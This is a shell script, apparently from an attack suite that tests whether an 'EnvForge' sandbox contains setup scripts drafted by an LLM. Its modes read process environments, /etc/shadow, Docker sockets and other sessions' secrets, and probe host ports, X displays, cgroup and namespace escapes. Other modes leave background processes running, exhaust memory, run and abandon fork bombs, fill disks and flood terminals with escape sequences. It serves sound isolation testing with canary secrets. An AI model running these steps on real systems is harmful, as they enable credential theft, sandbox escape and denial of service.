# Runs INSIDE an EnvForge sandbox as a task's setup script (the LLM creator's draft carries it).
# Variables set before it by the draft: ATK_MODE and what that mode needs (see attack-suite).
# It reports on its error output as lines "ATK KEY VALUE" and exits 1, so that EnvForge keeps the
# whole output in the blob store and quotes it in the audit reason. Secrets it manages to read are
# printed as "ATK-LEAK ..." so that the suite finds them wherever they end up.
set +e +u +o pipefail
exec 1>&2
say() { echo "ATK ${ATK_TAG:-$ATK_MODE}.$*"; }
# can NAME COMMAND...: OPEN when the command succeeds, else closed.
can() { local n=$1; shift; if "$@" >/dev/null 2>&1; then say "$n" OPEN; else say "$n" closed; fi; }
nonempty() { [ -n "$(ls -A "$1" 2>/dev/null)" ]; }
py() { command -v python3 >/dev/null && python3 -c "$@"; }
tcp() { timeout 3 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null; }
# Processes of the sandbox user that are neither this script, its callers nor its children (what an earlier task left).
others() {
    ps -eo pid=,ppid=,uid=,args= 2>/dev/null | awk -v me=$$ -v u="$(id -u)" '
        { p = $1; par[p] = $2; uid[p] = $3; a = $0; sub(/^ *[0-9]+ +[0-9]+ +[0-9]+ /, "", a); args[p] = a }
        END { q = me; for (i = 0; i < 64 && q > 1; i++) { anc[q] = 1; q = par[q] }
              for (p in par) { if (uid[p] != u || p == 1 || (p in anc)) continue; q = p; mine = 0
              for (i = 0; i < 64 && q > 1; i++) { if (q == me) { mine = 1; break } q = par[q] }
              if (!mine) print p " " substr(args[p], 1, 60) } }'
}

mode_read() {
    say uid "$(id -u)"
    # EnvForge's own environment (the LLM key) must not reach the sandbox.
    for e in /proc/[0-9]*/environ; do tr '\0' '\n' < "$e" 2>/dev/null; done | grep -a ATKSECRET | sed 's/^/ATK-LEAK /' | head -3
    env | grep -a ATKSECRET | sed 's/^/ATK-LEAK /' | head -3
    can shadow_read cat /etc/shadow
    can gshadow_read cat /etc/gshadow
    if cat "$ATK_CANARY_FILE" >/dev/null 2>&1; then say canary_read OPEN; echo "ATK-LEAK $(cat "$ATK_CANARY_FILE")"; else say canary_read closed; fi
    can docker_dir_list nonempty /var/lib/docker
    can docker_config_read sh -c 'cat /var/lib/docker/containers/*/config.v2.json'
    can root_home_list nonempty /root
    if cat "$ATK_ROOT_CANARY" >/dev/null 2>&1; then say root_canary_read OPEN; echo "ATK-LEAK $(cat "$ATK_ROOT_CANARY")"; else say root_canary_read closed; fi
    can data_dir_list nonempty "$ATK_DATA"
    can data_db_read cat "$ATK_DATA/envforge.db"
    if [ -n "${ATK_OTHER:-}" ]; then
        can other_data_list nonempty "$ATK_OTHER"
        can other_db_read cat "$ATK_OTHER/envforge.db"
        leak=$(grep -a -r -o -h "$ATK_OTHER_SECRET_PREFIX[A-Za-z0-9-]*" "$ATK_OTHER" 2>/dev/null | head -1)
        [ -n "$leak" ] && echo "ATK-LEAK $leak"
    fi
    say visible_pids "$(ls -d /proc/[0-9]* 2>/dev/null | wc -l)"
    can host_canary_seen sh -c 'grep -l -a "envforge-attack-hos[t]canary" /proc/[0-9]*/cmdline'
    kill -TERM "$ATK_HOSTPID" 2>/dev/null; kill -KILL "$ATK_HOSTPID" 2>/dev/null
    can signal_pid1 kill -TERM 1
    can net_llm_port tcp 127.0.0.1 "$ATK_PORT"
    can net_host_listener tcp 127.0.0.1 "$ATK_LISTEN_PORT"
    [ -n "${ATK_HOST_IP:-}" ] && can net_host_ip tcp "$ATK_HOST_IP" "$ATK_LISTEN_PORT"
    can net_docker_bridge tcp 172.17.0.1 "$ATK_LISTEN_PORT"
    say net_interfaces "$(tail -n +3 /proc/net/dev 2>/dev/null | awk -F: '{gsub(/ /,"",$1); print $1}' | tr '\n' ',')"
    can docker_socket py "import socket,sys
for p in ('/var/run/docker.sock','/run/docker.sock'):
    try:
        s=socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(p); sys.exit(0)
    except Exception: pass
sys.exit(1)"
    say x_sockets "$(ls /tmp/.X11-unix 2>/dev/null | tr '\n' ',')"
    can x_own_display xdpyinfo
    can x_decoy_display env DISPLAY=":$ATK_DECOY_DISPLAY" XAUTHORITY=/dev/null timeout 5 xdpyinfo
    can x_decoy_abstract py "import socket,sys
s=socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect('\0/tmp/.X11-unix/X$ATK_DECOY_DISPLAY')"
    can x_decoy_tcp tcp 127.0.0.1 $((6000 + ATK_DECOY_DISPLAY))
    n=0
    for d in $(seq 0 200); do
        [ ":$d" = "$DISPLAY" ] && continue
        DISPLAY=":$d" XAUTHORITY=/dev/null timeout 2 xdpyinfo >/dev/null 2>&1 && n=$((n + 1))
    done
    say x_other_displays_reached "$n"
    w=0
    for p in / /etc /usr /opt /var /var/lib /srv "$ATK_REPO" "$(dirname "$ATK_DATA")" "$ATK_DATA" /sys/fs/cgroup; do
        touch "$p/atk-$ATK_TOKEN" 2>/dev/null && { w=$((w + 1)); say wrote "$p"; }
    done
    say host_writes "$w"
    for p in /tmp /dev/shm /var/tmp /run; do echo x > "$p/atk-$ATK_TOKEN" 2>/dev/null; done
    can cgroup_escape sh -c 'for f in /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/cgroup.procs; do echo $$ > $f && exit 0; done; exit 1'
    can mount_tmpfs mount -t tmpfs atk /mnt
    can userns_root sh -c '[ "$(unshare -Ur id -u)" = 0 ]'
    can setuid_su sh -c 'su -c true root </dev/null'
    can sysrq_write sh -c 'echo h > /proc/sysrq-trigger'
    can kmsg_read sh -c 'head -c 1 /dev/kmsg'
    can raw_disk_read sh -c 'for d in /dev/sda /dev/vda /dev/nvme0n1 /dev/xvda; do head -c 1 $d && exit 0; done; exit 1'
    say done read
}

mode_persist() {
    # Background processes started every way a script can, each writing into the home.
    setsid nohup bash -c 'while :; do date +%s%N >> ~/persist-a.log; sleep 0.2; done' >/dev/null 2>&1 < /dev/null &
    ( trap '' TERM HUP INT; exec -a atk-persist-b bash -c 'trap "" TERM HUP INT; while :; do date +%s%N >> ~/persist-b.log; sleep 0.2; done' ) >/dev/null 2>&1 < /dev/null &
    ( ( exec -a atk-persist-c sleep 100000 ) & ) >/dev/null 2>&1
    disown -a
    sleep 1
    say persist_started "$(ls ~/persist-*.log 2>/dev/null | wc -l)"
    say done persist
}

mode_persist_check() {
    a=$(cat ~/persist-*.log 2>/dev/null | wc -l)
    sleep 1.5
    b=$(cat ~/persist-*.log 2>/dev/null | wc -l)
    say leftover_files "$(ls ~/persist-*.log 2>/dev/null | wc -l)"
    say leftover_writing "$([ "$b" -gt "$a" ] && echo yes || echo no)"
    local o
    o=$(others)
    say leftover_procs "$(printf '%s' "$o" | grep -c .)"
    say leftover_list "$(printf '%s' "$o" | tr '\n' ';' | head -c 600)"
    say done persist_check
}

mode_mem() {
    # ATK_MEM_PROCS programs of 1 GiB each, all held at once for a while.
    local n=${ATK_MEM_PROCS:-6}
    rm -f ~/mem-held-*
    for i in $(seq 1 "$n"); do
        python3 -c "
import time, os
b = bytearray(1 << 30)
for i in range(0, len(b), 4096): b[i] = 1
open(os.path.expanduser('~/mem-held-$i'), 'w').close()
time.sleep(25)" >/dev/null 2>&1 &
    done
    held=0
    for t in $(seq 1 40); do
        sleep 0.5
        held=$(ls ~/mem-held-* 2>/dev/null | wc -l)
        alive=$(jobs -rp | wc -l)
        [ "$held" -ge "$n" ] && break
        [ "$alive" -eq 0 ] && break
    done
    sleep 2
    alive=$(jobs -rp | wc -l)
    say mem_procs "$n"
    say mem_held_together "$alive"
    say mem_gib_held "$alive"
    kill $(jobs -p) 2>/dev/null
    say done mem
}

mode_pids() {
    # Fork until refused (each child sleeps), count, kill them all.
    python3 - "${ATK_TAG:-pids}" "${ATK_PIDS_TRY:-3000}" <<'PY'
import os, sys, time
tag, n = sys.argv[1], int(sys.argv[2])
kids = []
try:
    for i in range(n):
        p = os.fork()
        if p == 0:
            time.sleep(120)
            os._exit(0)
        kids.append(p)
except OSError:
    pass
print('ATK %s.pids_alive %d' % (tag, len(kids)), flush=True)
for k in kids:
    os.kill(k, 9)
for k in kids:
    os.waitpid(k, 0)
PY
    # A real fork bomb for a few seconds, in its own process group, then killed by group.
    rm -f ~/.atk-fifo; mkfifo ~/.atk-fifo; exec 9<> ~/.atk-fifo
    setsid bash -c 'b() { b | b & }; b' >/dev/null 2>&1 &
    local g=$!
    read -t 5 -u 9
    for ((i = 0; i < 300; i++)); do kill -9 -- "-$g" 2>/dev/null; done
    read -t 1 -u 9
    say bomb_done yes
    can fork_after /bin/true
    say done pids
}

mode_bomb_left() {
    # A fork bomb left running when the script ends; the next task shows whether reset got rid of it.
    setsid bash -c 'b() { b | b & }; b' >/dev/null 2>&1 < /dev/null &
    say bomb_started yes
    say done bomb_left
}

mode_disk() {
    for p in /tmp /dev/shm /var/tmp /run ~; do
        dd if=/dev/zero of="$p/atk-fill" bs=1M count="${ATK_FILL_MB:-3000}" status=none 2>/dev/null
        say "fill_mb:$p" "$(( $(stat -c %s "$p/atk-fill" 2>/dev/null || echo 0) >> 20 ))"
        rm -f "$p/atk-fill"
    done
    say done disk
}

mode_flood() {
    say started yes
    printf 'ATK flood-head \033]0;ATK-TITLE\007\033[2J\033]52;c;QVRLLUNMSVA=\007\033[31mRED\033[0m \302\233 31m \342\200\256 bidi\n'
    head -c "${ATK_FLOOD_BYTES:-100000000}" /dev/zero | tr '\0' 'A'
    printf '\nATK flood-tail \033]0;ATK-TITLE2\007\033[H\033[2J\n'
    say done flood
}

mode_time() {
    trap '' TERM HUP INT
    say time_started "$(date +%s)"
    sleep "${ATK_SLEEP:-300}"
    say time_survived yes
}

mode_session_a() {
    echo "$ATK_SESSION_SECRET" > ~/session-secret
    chmod 644 ~/session-secret
    sleep "${ATK_HOLD:-30}"
    say done session_a
}

mode_session_b() {
    sleep "${ATK_WAIT:-8}"
    found=$(timeout 40 find / \( -path /proc -o -path /sys -o -path /dev -o -path /usr -o -path /home/envforge \) -prune -o -name session-secret -print 2>/dev/null | head -3)
    say session_files "${found:-none}"
    for f in $found; do echo "ATK-LEAK $(cat "$f" 2>/dev/null)"; done
    fb=$(timeout 30 find / \( -path /proc -o -path /sys -o -path /dev -o -path /usr \) -prune -o \( -name 'Xvfb_screen0' -o -name 'app-*.log' \) -readable -print 2>/dev/null | head -4)
    say screens_readable "${fb:-none}"
    for f in $fb; do say read_bytes "$f $(head -c 1048576 "$f" 2>/dev/null | wc -c)"; done
    leak=$(grep -a -r -o -h "$ATK_SESSION_PREFIX[A-Za-z0-9-]*" /tmp /var/tmp /dev/shm /run 2>/dev/null | head -1)
    [ -n "$leak" ] && echo "ATK-LEAK $leak"
    say done session_b
}

"mode_$ATK_MODE"
exit 1
